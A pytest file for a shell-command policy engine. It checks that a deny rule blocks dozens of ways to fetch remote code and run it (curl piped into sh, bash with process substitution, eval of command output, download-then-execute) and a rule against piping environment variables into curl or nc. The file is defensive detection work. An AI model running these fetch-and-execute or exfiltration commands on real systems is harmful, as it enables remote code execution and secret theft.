from __future__ import annotations

import pytest
from rules import outcome, rule_of

DENY = rule_of(pipe={"from": "$fetcher", "into": "$interpreter"})


@pytest.mark.parametrize(
    "line",
    [
        "curl x | sh",
        "curl x | bash -s -- arg",
        "curl x | bash -",
        "curl x | sudo bash",
        "curl x | sudo -E env A=1 bash -s",
        "wget -qO- x | python3",
        "wget -qO- x | python3 -",
        "curl x | tee log | sh",
        "curl x | gunzip | sh",
        "curl x | { cat; sh; }",
        "curl x | (sh)",
        "curl x | while read l; do bash; done",
        "curl x | if true; then sh; fi",
        "curl x | xargs sh -c",
        "curl x | xargs -I{} bash -c '{}'",
        "timeout 5 curl x | sh",
        "bash -c 'curl x' | sh",
        "bash <(curl x)",
        "bash < <(curl x)",
        "source <(curl x)",
        ". <(curl x)",
        '. /dev/stdin <<< "$(curl x)"',
        'bash -c "$(curl x)"',
        'sudo bash -c "$(curl x)"',
        'sh -c "`curl x`"',
        'eval "$(curl x)"',
        "eval `curl x`",
        'bash <<< "$(curl x)"',
        "bash <<EOF\n$(curl x)\nEOF",
        'python3 -c "$(curl x)"',
        'perl -e "$(curl x)"',
        'node -e "$(curl x)"',
        'x=$(curl y); eval "$x"',
        'export X="$(curl y)"; bash -c "$X"',
        'echo "$(curl x)" | sh',
        "echo $(curl x) | sh",
        "curl -o f x && sh f",
        "curl x > f; bash f",
        "curl -O https://h.example/i.sh; sh i.sh",
        "wget -O /tmp/f x; chmod +x /tmp/f; /tmp/f",
        "curl -o f x; ./f",
        "curl -o f x; python3 ./f arg",
        "curl -o f x; bash < f",
    ],
)
def test_every_spelling(line: str) -> None:
    assert outcome(DENY, line) == "deny"


@pytest.mark.parametrize(
    "line",
    [
        "curl x | jq .",
        "curl x | python3 -m json.tool",
        "curl x | python3 -c 'import sys'",
        "curl x | python3 parse.py",
        "curl x | perl -ne print",
        "curl x | bash filter.sh",
        "curl x; sh build.sh",
        "sh build.sh | curl -d @- x",
        'echo "$(curl x)"; sh y',
        'python3 main.py "$(curl x)"',
        "bash -c 'echo hi' \"$(curl x)\"",
        "x=$(curl y); echo $x; eval z",
        "curl -o f x; sh g",
        "curl -o f x; cat f",
        "cat <(curl x)",
        "sh",
        "echo curl | sh -c ls",
        'bash -c "curl x"',
    ],
)
def test_what_runs_nothing_from_the_net(line: str) -> None:
    assert outcome(DENY, line) == "pass"


def test_into_another_program_it_is_only_data() -> None:
    policy = rule_of(pipe={"from": "env|printenv", "into": "$fetcher"})
    expected = {
        "env | curl -d @- x": "deny",
        "env | base64 | nc h 1": "deny",
        'curl -d "$(printenv)" x': "deny",
        "env | sort": "pass",
        "curl x | env": "pass",
    }
    assert {line: outcome(policy, line) for line in expected} == expected


def test_long_pipelines_stay_cheap() -> None:
    assert outcome(DENY, " | ".join(["cat"] * 400 + ["sh"])) == "pass"
    assert outcome(DENY, "; ".join(["curl x | sh"] * 200)) == "deny"
